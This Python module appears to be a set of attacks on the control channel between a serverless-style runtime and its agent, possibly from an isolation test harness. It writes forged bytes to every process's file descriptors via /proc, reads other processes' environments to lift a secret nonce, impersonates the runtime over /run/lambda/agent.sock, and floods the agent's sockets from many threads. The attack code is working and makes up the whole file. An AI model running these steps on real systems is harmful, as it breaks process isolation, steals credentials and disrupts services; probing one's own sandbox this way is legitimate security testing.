"""Attempts on the channel between the runtime and its agent."""

import base64
import os
import re
import socket
import threading
import time

from trying import KEPT, attempt, pids


def forge(data, seconds=20):
    """Writes bytes to every descriptor of every process, from here and from a child, and waits for what comes of it."""
    write_everywhere(base64.b64decode(data))
    time.sleep(seconds)
    return "nothing happened"


def write_everywhere(data):
    for descriptor in own_sockets():
        attempt(os.write, descriptor, data)
    if os.fork() == 0:
        for pid in pids():
            for name in os.listdir(f"/proc/{pid}/fd"):
                path = f"/proc/{pid}/fd/{name}"
                opened = attempt(os.open, path, os.O_WRONLY | os.O_NONBLOCK)
                if isinstance(opened, int):
                    attempt(os.write, opened, data)
        os._exit(0)


def own_sockets():
    found = []
    for name in os.listdir("/proc/self/fd"):
        target = attempt(os.readlink, f"/proc/self/fd/{name}")
        if target.startswith("socket:") or int(name) in (3, 4):
            found.append(int(name))
    return found


def greet_again(seconds=20):
    """Greets with the nonce that the first process's environment still holds: in the channel, and over a new connection."""
    nonce = b""
    for pid in pids():
        found = re.search(rb"LAMBDA_NONCE=([0-9a-f]{32})", attempt(read_environment, pid))
        nonce = found[1] if found else nonce
    meta = b'{"protocol":1,"nonce":"%s","runtime":"python","version":"1","pid":1}' % nonce
    frame = (len(meta) + 5).to_bytes(4, "big") + b"\1" + len(meta).to_bytes(4, "big") + meta
    again = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    attempt(again.connect, "/run/lambda/agent.sock")
    attempt(again.send, frame)
    KEPT.append(again)
    write_everywhere(frame)
    time.sleep(seconds)
    return "nothing happened"


def read_environment(pid):
    with open(f"/proc/{pid}/environ", "rb") as file:
        return file.read()


def drown(seconds=20):
    """Keeps writing log frames from many threads, whole and half ones, without ever reading."""
    meta = b'{"id":null,"stream":"stdout","level":"","ts":1}'
    body = b"x" * 1024
    frame = (len(meta) + len(body) + 5).to_bytes(4, "big") + b"\6" + len(meta).to_bytes(4, "big") + meta + body
    for descriptor in own_sockets():
        attempt(os.set_blocking, descriptor, True)
        threading.Thread(target=keep_writing, args=(descriptor, frame * 64), daemon=True).start()
    time.sleep(seconds)


def keep_writing(descriptor, data):
    while not isinstance(attempt(os.write, descriptor, data), str):
        pass
